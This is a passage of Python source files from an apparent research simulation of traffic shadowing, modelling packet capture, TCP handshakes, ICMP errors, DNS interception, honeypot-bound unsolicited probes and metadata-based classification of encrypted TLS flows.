            raise ValueError(f"snaplen must be positive, got {snaplen}")
        self._stream = stream
        self.snaplen = snaplen
        self.packets_written = 0
        stream.write(struct.pack(
            _GLOBAL_HEADER_FMT, PCAP_MAGIC, PCAP_VERSION[0], PCAP_VERSION[1],
            0,  # thiszone: virtual time is already zone-free
            0,  # sigfigs
            snaplen,
            LINKTYPE_RAW,
        ))

    def write(self, packet: Union[Packet, bytes], timestamp: float) -> None:
        """Append one packet at the given virtual timestamp."""
        if timestamp < 0:
            raise ValueError(f"timestamp must be non-negative, got {timestamp}")
        data = packet.encode() if isinstance(packet, Packet) else packet
        captured = data[: self.snaplen]
        seconds = int(timestamp)
        microseconds = int(round((timestamp - seconds) * 1_000_000))
        if microseconds >= 1_000_000:
            seconds += 1
            microseconds = 0
        self._stream.write(struct.pack(
            _RECORD_HEADER_FMT, seconds, microseconds, len(captured), len(data)
        ))
        self._stream.write(captured)
        self.packets_written += 1


def read_pcap(stream: BinaryIO) -> List[CapturedPacket]:
    """Read an entire classic pcap file back into memory."""
    header = stream.read(struct.calcsize(_GLOBAL_HEADER_FMT))
    if len(header) < struct.calcsize(_GLOBAL_HEADER_FMT):
        raise PcapFormatError("truncated global header")
    magic, major, minor, _zone, _sigfigs, _snaplen, linktype = struct.unpack(
        _GLOBAL_HEADER_FMT, header
    )
    if magic != PCAP_MAGIC:
        raise PcapFormatError(f"bad magic 0x{magic:08x} (byte-swapped files "
                              "are not supported)")
    if linktype != LINKTYPE_RAW:
        raise PcapFormatError(f"unsupported linktype {linktype}")
    packets: List[CapturedPacket] = []
    record_size = struct.calcsize(_RECORD_HEADER_FMT)
    while True:
        record = stream.read(record_size)
        if not record:
            break
        if len(record) < record_size:
            raise PcapFormatError("truncated record header")
        seconds, microseconds, captured_length, _original = struct.unpack(
            _RECORD_HEADER_FMT, record
        )
        data = stream.read(captured_length)
        if len(data) < captured_length:
            raise PcapFormatError("truncated record body")
        packets.append(CapturedPacket(
            timestamp=seconds + microseconds / 1_000_000, data=data,
        ))
    return packets


class CaptureTap:
    """A path tap that mirrors transiting packets into a PcapWriter.

    Attach at any hop; pairs with a clock callable so records carry
    virtual time::

        tap = CaptureTap(writer, sim.now)
        path.add_tap(3, tap)
    """

    def __init__(self, writer: PcapWriter, clock):
        self._writer = writer
        self._clock = clock

    def __call__(self, position: int, hop, packet: Packet) -> None:
        self._writer.write(packet, self._clock())

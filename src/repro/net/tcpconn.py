"""Minimal TCP connection establishment over a simulated path.

Phase I of the paper sends HTTP/TLS decoys *after successful TCP
handshakes* with the destination; Phase II deliberately skips the
handshake so that low-TTL probes do not hold server connections open.
This module models exactly that much TCP: a three-way handshake with
real SYN/SYN-ACK/ACK segments transiting the path, sequence numbers, and
a state machine for the client side.
"""

import enum
import random
from dataclasses import dataclass
from typing import Optional

from repro.net.packet import Packet, TCPSegment
from repro.net.path import Path, TransitOutcome


class TcpState(enum.Enum):
    CLOSED = "closed"
    SYN_SENT = "syn-sent"
    ESTABLISHED = "established"
    FAILED = "failed"


@dataclass
class HandshakeResult:
    """Outcome of a three-way handshake attempt."""

    state: TcpState
    syn_delivered: bool
    client_isn: int
    server_isn: Optional[int]

    @property
    def established(self) -> bool:
        return self.state is TcpState.ESTABLISHED


class TcpClient:
    """Client-side TCP over one path.

    The server side is implicit: destinations in the simulation always
    accept connections on their service port (they are live public
    services by construction), so a SYN that *reaches* the destination is
    answered.  What the model preserves is the part the methodology cares
    about: SYNs transit the path (and are seen by any DPI hops), and no
    payload is ever sent on an unestablished connection.
    """

    def __init__(self, path: Path, src: str, src_port: int, dst_port: int,
                 rng: random.Random, ttl: int = 64):
        self.path = path
        self.src = src
        self.src_port = src_port
        self.dst = path.destination.address
        self.dst_port = dst_port
        self.ttl = ttl
        self._rng = rng
        self.state = TcpState.CLOSED
        self.client_isn = rng.randrange(0x100000000)
        self.server_isn: Optional[int] = None
        self._next_seq = 0

    def connect(self) -> HandshakeResult:
        """Run the three-way handshake."""
        if self.state is not TcpState.CLOSED:
            raise RuntimeError(f"connect() from state {self.state}")
        syn = Packet.tcp(
            src=self.src, dst=self.dst, ttl=self.ttl,
            src_port=self.src_port, dst_port=self.dst_port,
            payload=b"", flags=TCPSegment.FLAG_SYN,
        )
        # Force the chosen ISN into the segment (Packet.tcp defaults seq=0).
        syn = Packet(ip=syn.ip, transport=TCPSegment(
            src_port=self.src_port, dst_port=self.dst_port,
            seq=self.client_isn, flags=TCPSegment.FLAG_SYN,
        ))
        self.state = TcpState.SYN_SENT
        result = self.path.transit(syn)
        if result.outcome is not TransitOutcome.DELIVERED:
            self.state = TcpState.FAILED
            return HandshakeResult(self.state, False, self.client_isn, None)
        # The destination SYN-ACKs; reverse-path delivery is assumed (the
        # methodology never manipulates return TTLs).
        self.server_isn = self._rng.randrange(0x100000000)
        ack = Packet.tcp(
            src=self.src, dst=self.dst, ttl=self.ttl,
            src_port=self.src_port, dst_port=self.dst_port,
            payload=b"", flags=TCPSegment.FLAG_ACK,
        )
        self.path.transit(ack)
        self.state = TcpState.ESTABLISHED
        self._next_seq = (self.client_isn + 1) & 0xFFFFFFFF
        return HandshakeResult(self.state, True, self.client_isn, self.server_isn)

    def send(self, payload: bytes, ttl: Optional[int] = None,
             loss_at: Optional[int] = None):
        """Send application bytes on the established connection.

        Returns the path's :class:`TransitResult`.  Raises unless the
        connection is established — the invariant Phase I relies on.
        ``loss_at`` injects a link fault on this data segment only; the
        handshake itself is kept reliable (TCP's own retransmission is
        below this model's level of detail — undelivered-decoy faults are
        what the robustness layer exercises).
        """
        if self.state is not TcpState.ESTABLISHED:
            raise RuntimeError(f"send() on {self.state} connection")
        segment = TCPSegment(
            src_port=self.src_port, dst_port=self.dst_port,
            seq=self._next_seq,
            ack=((self.server_isn or 0) + 1) & 0xFFFFFFFF,
            flags=TCPSegment.FLAG_PSH | TCPSegment.FLAG_ACK,
            payload=payload,
        )
        packet = Packet.tcp(
            src=self.src, dst=self.dst,
            ttl=self.ttl if ttl is None else ttl,
            src_port=self.src_port, dst_port=self.dst_port, payload=payload,
        )
        packet = Packet(ip=packet.ip, transport=segment)
        self._next_seq = (self._next_seq + len(payload)) & 0xFFFFFFFF
        return self.path.transit(packet, loss_at=loss_at)

    def close(self) -> None:
        """Tear the connection down (FIN transit elided)."""
        self.state = TcpState.CLOSED

"""ICMP Time-Exceeded messages.

During Phase II the VPs learn observer addresses from the ICMP type-11
errors that routers return when the decoy's TTL expires at their hop.  The
error quotes the expired packet's IP header (plus the first payload bytes),
exactly as RFC 792 specifies — the quoted header is what lets the VP match
the error back to the decoy it sent.
"""

import struct
from dataclasses import dataclass

from repro.net.errors import PacketDecodeError
from repro.net.packet import IPv4Header, Packet, checksum16

ICMP_TIME_EXCEEDED = 11
_QUOTE_PAYLOAD_BYTES = 8  # RFC 792: original header + first 8 payload bytes


@dataclass(frozen=True)
class IcmpTimeExceeded:
    """A type-11 code-0 ICMP error, quoting the expired packet."""

    reporter: str
    """Address of the router whose hop exhausted the TTL."""
    quoted_header: IPv4Header
    quoted_payload: bytes

    @classmethod
    def for_packet(cls, reporter: str, expired: Packet) -> "IcmpTimeExceeded":
        """Build the error a router at ``reporter`` would emit for ``expired``."""
        return cls(
            reporter=reporter,
            quoted_header=expired.ip,
            quoted_payload=expired.transport.encode()[:_QUOTE_PAYLOAD_BYTES],
        )

    def encode(self) -> bytes:
        """ICMP message bytes: type/code/checksum/unused + quoted data."""
        quote = self.quoted_header.encode() + self.quoted_payload
        without_checksum = struct.pack("!BBHI", ICMP_TIME_EXCEEDED, 0, 0, 0) + quote
        digest = checksum16(without_checksum)
        return (
            struct.pack("!BBHI", ICMP_TIME_EXCEEDED, 0, digest, 0) + quote
        )

    @classmethod
    def decode(cls, reporter: str, data: bytes) -> "IcmpTimeExceeded":
        """Parse ICMP bytes received from ``reporter``."""
        if len(data) < 8 + 20:
            raise PacketDecodeError(f"ICMP time-exceeded too short: {len(data)} bytes")
        icmp_type, code, _checksum, _unused = struct.unpack("!BBHI", data[:8])
        if icmp_type != ICMP_TIME_EXCEEDED or code != 0:
            raise PacketDecodeError(f"not a time-exceeded message: type={icmp_type} code={code}")
        if checksum16(data) != 0:
            raise PacketDecodeError("ICMP checksum mismatch")
        quoted_header = IPv4Header.decode(data[8:28])
        return cls(reporter=reporter, quoted_header=quoted_header, quoted_payload=data[28:])

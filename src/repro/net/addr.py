"""IPv4 address helpers.

Addresses are passed around as dotted-quad strings (matching how the paper
reports them) with conversion helpers for arithmetic.  The pair-resolver
heuristic of Appendix E needs /24 reasoning, hence :func:`same_slash24`.
"""

from repro.net.errors import NetError


class InvalidAddressError(NetError):
    """Raised for strings that are not dotted-quad IPv4 addresses."""


def ip_to_int(address: str) -> int:
    """Convert ``"1.2.3.4"`` to its 32-bit integer form.

    Rejects anything that is not exactly four decimal octets — leading
    zeros and whitespace included, since lenient parsers are a classic
    source of address-confusion bugs.
    """
    parts = address.split(".")
    if len(parts) != 4:
        raise InvalidAddressError(f"expected four octets: {address!r}")
    value = 0
    for part in parts:
        if not part.isdigit() or (len(part) > 1 and part[0] == "0"):
            raise InvalidAddressError(f"bad octet {part!r} in {address!r}")
        octet = int(part)
        if octet > 255:
            raise InvalidAddressError(f"octet {octet} out of range in {address!r}")
        value = (value << 8) | octet
    return value


def ip_from_int(value: int) -> str:
    """Convert a 32-bit integer to dotted-quad form."""
    if not 0 <= value <= 0xFFFFFFFF:
        raise InvalidAddressError(f"value {value} out of 32-bit range")
    return ".".join(str((value >> shift) & 0xFF) for shift in (24, 16, 8, 0))


def is_valid_ipv4(address: str) -> bool:
    """True when ``address`` parses as a strict dotted quad."""
    try:
        ip_to_int(address)
    except InvalidAddressError:
        return False
    return True


def slash24(address: str) -> str:
    """The /24 prefix of an address, e.g. ``"1.1.1.0/24"`` for ``"1.1.1.1"``."""
    value = ip_to_int(address) & 0xFFFFFF00
    return f"{ip_from_int(value)}/24"


def same_slash24(first: str, second: str) -> bool:
    """True when both addresses share a /24 — the pair-resolver criterion."""
    return (ip_to_int(first) & 0xFFFFFF00) == (ip_to_int(second) & 0xFFFFFF00)

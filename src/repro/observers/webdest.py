"""Shadowing behaviour of HTTP/TLS destination servers.

Table 2 locates 65% of TLS observers and a small share of HTTP observers
*at the destination* — web endpoints (CDNs, security services) that log
SNI / Host values and probe them later.  Whether a given destination
shadows is decided deterministically per address from country-level
rates.
"""

import random
from dataclasses import dataclass
from typing import Dict, Optional

from repro.datasets.tranco import WebDestination
from repro.observers.exhibitor import ShadowExhibitor
from repro.simkit.rng import SubstreamFactory
from repro.telemetry.registry import NULL_REGISTRY, labeled


@dataclass(frozen=True)
class WebDestinationBehavior:
    """Per-country shadowing rates for destination web servers."""

    tls_shadow_rate_by_country: Dict[str, float]
    http_shadow_rate_by_country: Dict[str, float]
    default_tls_rate: float = 0.0
    default_http_rate: float = 0.0

    def tls_rate(self, country: str) -> float:
        return self.tls_shadow_rate_by_country.get(country, self.default_tls_rate)

    def http_rate(self, country: str) -> float:
        return self.http_shadow_rate_by_country.get(country, self.default_http_rate)


class WebDestinationModel:
    """Runtime shadow decisions for the synthetic Tranco pool."""

    def __init__(
        self,
        behavior: WebDestinationBehavior,
        exhibitors_by_country: Dict[str, ShadowExhibitor],
        default_exhibitor: Optional[ShadowExhibitor],
        rng: random.Random,
        streams: Optional[SubstreamFactory] = None,
        metrics=None,
    ):
        self.behavior = behavior
        self._exhibitors = exhibitors_by_country
        self._default = default_exhibitor
        self._rng = rng
        self._streams = streams
        """When set, the per-(address, protocol) shadow decision comes from
        a substream keyed by that pair rather than first-sight order on the
        shared ``rng`` — so the decision is identical no matter which shard
        (or arrival) asks first."""
        self._decisions: Dict[tuple, bool] = {}
        # Per-decoy tallies only: the cached per-destination *decision*
        # is made by whichever shard asks first, so counting decisions
        # would diverge from serial — counting decoys partitions cleanly.
        metrics = metrics if metrics is not None else NULL_REGISTRY
        self._m_decoys = {
            protocol: metrics.counter(
                labeled("webdest.decoys_received", protocol=protocol))
            for protocol in ("http", "tls")
        }
        self._m_shadowed = {
            protocol: metrics.counter(
                labeled("webdest.shadow_observations", protocol=protocol))
            for protocol in ("http", "tls")
        }

    def _shadows(self, destination: WebDestination, protocol: str) -> bool:
        key = (destination.address, protocol)
        if key not in self._decisions:
            rate = (
                self.behavior.tls_rate(destination.country)
                if protocol == "tls"
                else self.behavior.http_rate(destination.country)
            )
            if self._streams is not None:
                draw = self._streams.derive(destination.address, protocol).random()
            else:
                draw = self._rng.random()
            self._decisions[key] = draw < rate
        return self._decisions[key]

    def receive_decoy(self, destination: WebDestination, protocol: str,
                      domain: str) -> bool:
        """Handle one delivered HTTP/TLS decoy; returns True if shadowed.

        Real destinations would also answer the request; responses do not
        reach the honeypot so the pipeline never consumes them.
        """
        if protocol not in ("http", "tls"):
            raise ValueError(f"web destinations only take http/tls decoys, got {protocol!r}")
        self._m_decoys[protocol].inc()
        if not self._shadows(destination, protocol):
            return False
        exhibitor = self._exhibitors.get(destination.country, self._default)
        if exhibitor is None:
            return False
        self._m_shadowed[protocol].inc()
        exhibitor.observe(domain, observed_from=destination.address)
        return True

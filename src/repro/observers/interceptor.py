"""On-path DNS interception — the noise source of Appendix E.

Interceptors redirect DNS queries to alternative resolvers and answer
with responses spoofed from the intended destination's address.  They are
*not* traffic shadowing (the client is still waiting when the alternative
resolver acts), but uncorrected they pollute observer localization; the
pair-resolver filter exists to remove affected VPs.

The model supports both sides of that story:

* :meth:`DnsInterceptor.answers_pair_probe` — interceptors respond to
  queries aimed at non-DNS addresses, which is exactly how the vetting
  probe detects them;
* :meth:`DnsInterceptor.on_query` — the alternative resolver recurses
  (and aggressively retries) toward the honeypot authoritative server,
  which is the mid-path noise the ablation benchmark quantifies.
"""

import random
from dataclasses import dataclass
from typing import Dict, Optional, Set

from repro.honeypot.deployment import HoneypotDeployment
from repro.protocols.dns import make_query
from repro.simkit.events import Simulator
from repro.simkit.rng import SubstreamFactory
from repro.telemetry.registry import NULL_REGISTRY


class DnsInterceptor:
    """One interception device at a router hop."""

    def __init__(
        self,
        hop_address: str,
        alt_resolver_address: str,
        sim: Simulator,
        deployment: HoneypotDeployment,
        rng: random.Random,
        retry_count: int = 2,
        retry_window: float = 45.0,
        streams: Optional[SubstreamFactory] = None,
        metrics=None,
    ):
        self.hop_address = hop_address
        self.alt_resolver_address = alt_resolver_address
        self._sim = sim
        self._deployment = deployment
        self._rng = rng
        self._streams = streams
        """When set, recursion/retry delays for a query are keyed by the
        intercepted domain rather than drawn in arrival order — a shared
        first-hop interceptor then behaves identically whether the VPs
        behind it run in one simulator or across shards."""
        self._arrivals: Dict[str, int] = {}
        self.retry_count = retry_count
        self.retry_window = retry_window
        self.intercepted = 0
        # One shared counter across every interceptor instance: the name
        # carries no hop label, so the handle is the same Counter object
        # registry-wide and per-campaign totals come for free.
        metrics = metrics if metrics is not None else NULL_REGISTRY
        self._m_intercepted = metrics.counter("interceptor.queries_intercepted")

    def answers_pair_probe(self) -> bool:
        """Interceptors answer DNS queries regardless of destination."""
        return True

    def on_query(self, domain: str) -> None:
        """Redirect one intercepted query to the alternative resolver.

        The alternative resolver recurses immediately and then re-queries
        the name a few times — the classic aggressive-retry fingerprint
        the APNIC "DNS zombies" post attributes to problematic resolver
        implementations.
        """
        self.intercepted += 1
        self._m_intercepted.inc()
        if self._streams is not None:
            arrival = self._arrivals.get(domain, 0)
            self._arrivals[domain] = arrival + 1
            rng = self._streams.derive(self.hop_address, domain, arrival)
        else:
            rng = self._rng
        self._sim.schedule_in(
            rng.uniform(0.02, 0.3),
            lambda domain=domain: self._query_authoritative(domain),
            label="interceptor:recursion",
        )
        for _ in range(self.retry_count):
            self._sim.schedule_in(
                rng.uniform(1.0, self.retry_window),
                lambda domain=domain: self._query_authoritative(domain),
                label="interceptor:retry",
            )

    def _query_authoritative(self, domain: str) -> None:
        wire = make_query(domain, txid=self._rng.randrange(0x10000)).encode()
        server = self._deployment.authoritative_for(self.alt_resolver_address)
        server.handle_query(wire, self.alt_resolver_address, self._sim.now())

"""Shadow exhibitors: retention plus unsolicited-request emission."""

import random
from dataclasses import dataclass, field
from typing import Dict, List, Optional, Tuple

from repro.simkit.rng import SubstreamFactory

from repro.honeypot.deployment import HoneypotDeployment
from repro.intel.exploitdb import ENUMERATION_PATHS
from repro.observers.policy import ShadowPolicy
from repro.protocols.dns import make_query
from repro.protocols.http import make_get
from repro.protocols.tls import ClientHello, wrap_handshake
from repro.simkit.events import Simulator
from repro.simkit.units import DAY, HOUR, MINUTE
from repro.telemetry.registry import NULL_REGISTRY, labeled

# Virtual-second buckets for observation→use delays: sub-minute (benign
# retry territory), sub-hour, sub-day, then the paper's ">10 days" tail.
DELAY_BUCKETS = (MINUTE, HOUR, DAY, 10 * DAY)


@dataclass(frozen=True)
class ObservationRecord:
    """Ground truth: one exhibitor observing one decoy's data.

    The measurement pipeline never reads these — they exist so tests and
    validation can compare what the pipeline *recovered* against what the
    simulated exhibitors actually did.
    """

    exhibitor: str
    domain: str
    observed_at: float
    observed_from: str
    """Where the data was captured (hop or destination address)."""
    leveraged: bool
    scheduled_requests: int


class GroundTruth:
    """Append-only record of every observation event in a campaign."""

    def __init__(self):
        self.observations: List[ObservationRecord] = []

    def record(self, observation: ObservationRecord) -> None:
        self.observations.append(observation)

    def for_domain(self, domain: str) -> List[ObservationRecord]:
        return [obs for obs in self.observations if obs.domain == domain]

    def __len__(self) -> int:
        return len(self.observations)


class UnsolicitedEmitter:
    """Delivers one unsolicited request to the honeypot deployment.

    This models everything between an exhibitor deciding to probe a domain
    and the request arriving: resolving the experiment name through the
    wildcard zone, then issuing the DNS query / HTTP GET / TLS handshake
    from the chosen origin address.
    """

    def __init__(self, deployment: HoneypotDeployment, sim: Simulator,
                 rng: random.Random, metrics=None):
        self._deployment = deployment
        self._sim = sim
        self._rng = rng
        self.emitted = 0
        metrics = metrics if metrics is not None else NULL_REGISTRY
        self._m_emitted = {
            protocol: metrics.counter(
                labeled("emitter.emitted", protocol=protocol)
            )
            for protocol in ("dns", "http", "https")
        }

    def emit(self, protocol: str, domain: str, origin_address: str,
             path: str = "/") -> None:
        now = self._sim.now()
        if protocol == "dns":
            wire = make_query(domain, txid=self._rng.randrange(0x10000)).encode()
            server = self._deployment.authoritative_for(origin_address)
            server.handle_query(wire, origin_address, now)
        elif protocol == "http":
            web_address = self._deployment.resolve_experiment_name(domain)
            if web_address is None:
                return
            site = self._deployment.web_site_by_address(web_address)
            request = make_get(domain, path=path, user_agent="shadow-probe/1.0")
            site.web.handle_request(request.encode(), origin_address, now)
        elif protocol == "https":
            web_address = self._deployment.resolve_experiment_name(domain)
            if web_address is None:
                return
            site = self._deployment.web_site_by_address(web_address)
            hello = ClientHello(
                server_name=domain,
                random=bytes(self._rng.randrange(256) for _ in range(32)),
            )
            request = make_get(domain, path=path, user_agent="shadow-probe/1.0")
            site.tls.handle_connection(
                wrap_handshake(hello.encode()), request.encode(), origin_address, now
            )
        else:
            raise ValueError(f"unknown unsolicited protocol {protocol!r}")
        self.emitted += 1
        self._m_emitted[protocol].inc()


class ShadowExhibitor:
    """One shadowing party: applies a :class:`ShadowPolicy` to observations.

    On observing a domain, decides whether to leverage it and, if so,
    schedules ``uses`` unsolicited requests at policy-drawn delays — the
    mechanism behind the paper's "data retained for over 10 days and
    leveraged more than once" findings.
    """

    def __init__(
        self,
        policy: ShadowPolicy,
        sim: Simulator,
        emitter: UnsolicitedEmitter,
        rng: random.Random,
        ground_truth: Optional[GroundTruth] = None,
        retention=None,
        streams: Optional[SubstreamFactory] = None,
        metrics=None,
    ):
        self.policy = policy
        self._sim = sim
        self._emitter = emitter
        self._rng = rng
        self._streams = streams
        """When set, each observation's draws (leverage decision, uses,
        delays, protocols, origins, paths) come from a substream keyed by
        (domain, observed_from, arrival) — pure function of the keys, so
        identical whether observations arrive interleaved in one simulator
        or split across shards."""
        self._arrivals: Dict[Tuple[str, str], int] = {}
        self._ground_truth = ground_truth
        self.retention = retention
        """Optional :class:`~repro.observers.retention.RetentionStore`;
        when set, eviction under capacity pressure cancels an observation's
        still-pending unsolicited requests (the limited-storage hypothesis
        of Section 5.2)."""
        self.observed_count = 0
        self.leveraged_count = 0
        metrics = metrics if metrics is not None else NULL_REGISTRY
        name = policy.name
        self._m_observed = metrics.counter(
            labeled("observer.observed", exhibitor=name))
        self._m_leveraged = metrics.counter(
            labeled("observer.leveraged", exhibitor=name))
        self._m_scheduled = metrics.counter(
            labeled("observer.unsolicited_scheduled", exhibitor=name))
        self._m_delay = metrics.histogram(
            labeled("observer.use_delay_virtual", exhibitor=name),
            DELAY_BUCKETS)

    @property
    def name(self) -> str:
        return self.policy.name

    def observe(self, domain: str, observed_from: str) -> None:
        """Feed one captured domain into the exhibitor."""
        self.observed_count += 1
        self._m_observed.inc()
        if self._streams is not None:
            key = (domain, observed_from)
            arrival = self._arrivals.get(key, 0)
            self._arrivals[key] = arrival + 1
            rng = self._streams.derive(self.name, domain, observed_from, arrival)
        else:
            rng = self._rng
        leveraged = rng.random() < self.policy.observe_probability
        scheduled = 0
        if leveraged:
            self.leveraged_count += 1
            self._m_leveraged.inc()
            if self.retention is not None:
                self.retention.admit(domain, self._sim.now())
            uses = max(1, round(self.policy.uses.sample(rng)))
            for _ in range(uses):
                delay = max(0.0, self.policy.delay.sample(rng))
                self._m_delay.observe(delay)
                protocol = self.policy.pick_protocol(rng)
                origin = self.policy.origin_pool.pick(rng, protocol)
                path = self._pick_path(protocol, rng)
                event = self._sim.schedule_in(
                    delay,
                    lambda protocol=protocol, domain=domain, origin=origin, path=path:
                        self._emitter.emit(protocol, domain, origin, path),
                    label=f"unsolicited:{self.name}",
                )
                if self.retention is not None:
                    self.retention.attach(domain, event)
                scheduled += 1
                self._m_scheduled.inc()
        if self._ground_truth is not None:
            self._ground_truth.record(
                ObservationRecord(
                    exhibitor=self.name,
                    domain=domain,
                    observed_at=self._sim.now(),
                    observed_from=observed_from,
                    leveraged=leveraged,
                    scheduled_requests=scheduled,
                )
            )

    def _pick_path(self, protocol: str, rng: random.Random) -> str:
        if protocol == "dns":
            return "/"
        if rng.random() < self.policy.http_enumeration_rate:
            return ENUMERATION_PATHS[rng.randrange(len(ENUMERATION_PATHS))]
        return "/"

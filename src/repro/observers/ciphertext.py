"""Ciphertext-metadata observers: classification without plaintext.

The mitigations package treats encryption as a point defense — ECH hides
the SNI, DoH hides the query — and the wire sniffers in
:mod:`repro.observers.onpath` are indeed blinded by both.  But the
defense is leaky.  Siby et al. fingerprint encrypted DNS from packet
sizes and timing alone; Hoang et al. show that correlating resolved
destination addresses defeats domain encryption outright.  This module
models both observer classes:

* :class:`TrafficClassifier` / :class:`CiphertextObserver` — a
  traffic-analysis observer that scores TLS flows against reference
  ClientHello *size templates* plus inter-send timing regularity.  It
  parses lengths and extension *types* only, never name bytes: decoy
  domains have a fixed label length, so their hellos land in a handful
  of record-size buckets a passive observer can precompute.
* :class:`DstIpCorrelator` — a destination-address correlator that flags
  endpoints contacted by many distinct flows as shared decoy sinks and
  links every flow to a flagged sink, SNI or no SNI.

Both are deterministic: classification inputs are wire-stable metadata
(payload lengths, addresses, ports, virtual times) and every stochastic
decision — placement and the tunable false-positive rate — is a keyed
substream draw, so serial and sharded campaigns classify identically.
"""

from dataclasses import dataclass
from typing import Callable, Dict, List, Optional, Tuple

from repro.mitigations.doh import DOH_RESOLVER_HOST
from repro.mitigations.ech import ECH_EXTENSION_TYPE, _NONCE_LENGTH
from repro.net.packet import PROTO_TCP, Packet
from repro.observers.placement import PlacementPlanner
from repro.protocols.tls import ClientHello, wrap_handshake
from repro.telemetry.registry import NULL_REGISTRY

PADDING_BUCKET = 32
"""Record sizes quantize to 32-byte buckets: features are invariant to
padding that stays within a bucket, which is exactly the invariance the
property tests pin (and the reason naive SNI-length padding of less than
a bucket does not evade the classifier)."""

DECOY_LABEL_LENGTH = 29
"""Every experiment label is 24 base32 chars + ``-`` + a 4-digit
sequence (see :mod:`repro.core.identifier`), so decoy ClientHello sizes
are a pure function of the zone name — the template anchor."""

ECH_PUBLIC_NAME = "public.ech-frontend.example"

SIZE_WEIGHT = 0.7
TIMING_WEIGHT = 0.3


@dataclass(frozen=True)
class FlowFeatures:
    """Metadata extracted from one packet without reading plaintext."""

    transport: int
    dst_port: int
    size_bucket: int
    sni_length: int
    """Length of the (outer) SNI name in bytes; -1 when the payload is
    not a parseable ClientHello."""
    has_ech: bool


def _client_hello_metadata(payload: bytes) -> Tuple[int, int]:
    """(sni_length, has_ech as int) from TLS framing lengths and types.

    Walks the record -> handshake -> extension structure reading only
    length fields and extension type codes — the traffic-analysis
    observer's discipline is that name bytes stay opaque.  Returns
    ``(-1, 0)`` for anything that is not a ClientHello record.
    """
    # TLS record header: type(1) version(2) length(2), type 22 = handshake.
    if len(payload) < 5 + 4 or payload[0] != 22:
        return -1, 0
    body = payload[5:]
    if body[0] != 1:  # handshake type 1 = ClientHello
        return -1, 0
    cursor = 4 + 2 + 32  # handshake header, legacy_version, random
    if len(body) < cursor + 1:
        return -1, 0
    cursor += 1 + body[cursor]  # session id
    if len(body) < cursor + 2:
        return -1, 0
    cursor += 2 + int.from_bytes(body[cursor:cursor + 2], "big")  # suites
    if len(body) < cursor + 1:
        return -1, 0
    cursor += 1 + body[cursor]  # compression methods
    if len(body) < cursor + 2:
        return -1, 0
    ext_total = int.from_bytes(body[cursor:cursor + 2], "big")
    cursor += 2
    end = min(cursor + ext_total, len(body))
    sni_length = -1
    has_ech = 0
    while cursor + 4 <= end:
        ext_type = int.from_bytes(body[cursor:cursor + 2], "big")
        ext_length = int.from_bytes(body[cursor + 2:cursor + 4], "big")
        cursor += 4
        if ext_type == 0 and ext_length >= 5:  # server_name
            sni_length = int.from_bytes(body[cursor + 3:cursor + 5], "big")
        elif ext_type == ECH_EXTENSION_TYPE:
            has_ech = 1
        cursor += ext_length
    return sni_length, has_ech


def featurize(packet: Packet) -> FlowFeatures:
    """The metadata feature vector of one packet."""
    payload = packet.payload
    sni_length, has_ech = -1, 0
    if packet.ip.protocol == PROTO_TCP and packet.transport.dst_port == 443:
        sni_length, has_ech = _client_hello_metadata(payload)
    return FlowFeatures(
        transport=packet.ip.protocol,
        dst_port=packet.transport.dst_port,
        size_bucket=len(payload) // PADDING_BUCKET,
        sni_length=sni_length,
        has_ech=bool(has_ech),
    )


def size_templates(zone: str) -> Dict[str, int]:
    """Reference ClientHello size buckets for decoy flows under each
    mitigation, computed from wire framing alone.

    A passive observer who knows the experiment zone (or merely a label
    length, which never varies) can build these offline: hello sizes
    depend only on name lengths, never on key material.
    """
    zone = zone.rstrip(".").lower()
    label = "a" * DECOY_LABEL_LENGTH
    domain = f"{label}.{zone}"
    randomness = bytes(32)
    plain = wrap_handshake(
        ClientHello(server_name=domain, random=randomness).encode())
    # The ECH extension body is config_id(1) + nonce + sealed inner SNI;
    # only its length matters to the template.
    ech_body = bytes(1 + _NONCE_LENGTH + len(domain))
    ech = wrap_handshake(
        ClientHello(
            server_name=ECH_PUBLIC_NAME,
            random=randomness,
            extra_extensions=((ECH_EXTENSION_TYPE, ech_body),),
        ).encode())
    doh = wrap_handshake(
        ClientHello(server_name=DOH_RESOLVER_HOST, random=randomness).encode())
    return {
        "tls-plain": len(plain) // PADDING_BUCKET,
        "tls-ech": len(ech) // PADDING_BUCKET,
        "doh": len(doh) // PADDING_BUCKET,
    }


class TrafficClassifier:
    """Thresholded size/timing classifier over ciphertext metadata.

    ``score`` is independent of the threshold, so the classified set
    shrinks monotonically as the threshold rises — the property tests
    pin exactly that.  ``fpr`` is the observer's tunable aggressiveness:
    sub-threshold flows are still flagged with that probability, drawn
    from a keyed substream of wire-stable flow keys so the same flows
    false-positive in every shard layout.
    """

    def __init__(self, templates: Dict[str, int], threshold: float = 0.6,
                 fpr: float = 0.0, streams=None):
        if not 0.0 <= threshold <= 1.0:
            raise ValueError(f"threshold must be in [0, 1], got {threshold}")
        if not 0.0 <= fpr <= 1.0:
            raise ValueError(f"fpr must be in [0, 1], got {fpr}")
        if fpr > 0.0 and streams is None:
            raise ValueError("fpr > 0 needs keyed substreams")
        self.templates = dict(templates)
        self._buckets = sorted(set(templates.values()))
        self.threshold = threshold
        self.fpr = fpr
        self._streams = streams

    def score(self, features: FlowFeatures, regularity: float = 0.0) -> float:
        """Decoy likelihood in [0, 1] from metadata alone."""
        if features.transport != PROTO_TCP or features.dst_port != 443:
            return 0.0
        if features.sni_length < 0:
            return 0.0
        distance = min(abs(features.size_bucket - bucket)
                       for bucket in self._buckets)
        size_score = {0: 1.0, 1: 0.5}.get(distance, 0.0)
        return SIZE_WEIGHT * size_score + TIMING_WEIGHT * max(
            0.0, min(1.0, regularity))

    def classify(self, features: FlowFeatures, regularity: float,
                 flow_keys: Tuple = ()) -> bool:
        """Final verdict: threshold on the score, plus the keyed FPR coin."""
        if self.score(features, regularity) >= self.threshold:
            return True
        if self.fpr > 0.0:
            draw = self._streams.derive("fp", *flow_keys)
            return draw.random() < self.fpr
        return False


class DstIpCorrelator:
    """Links flows by destination-address reuse (Hoang et al.).

    Needs no TLS parsing at all: an address contacted by at least
    ``link_threshold`` distinct flows is flagged as a shared decoy sink
    and every flow to it is linked — which is why ECH and DoH rows of the
    mitigation matrix stay nonzero in this column.
    """

    def __init__(self, link_threshold: int = 3):
        if link_threshold < 1:
            raise ValueError(
                f"link_threshold must be >= 1, got {link_threshold}")
        self.link_threshold = link_threshold
        self._sources: Dict[str, set] = {}

    def observe(self, src: str, dst: str) -> None:
        self._sources.setdefault(dst, set()).add(src)

    def flagged(self, dst: str) -> bool:
        return len(self._sources.get(dst, ())) >= self.link_threshold

    def flagged_destinations(self) -> List[str]:
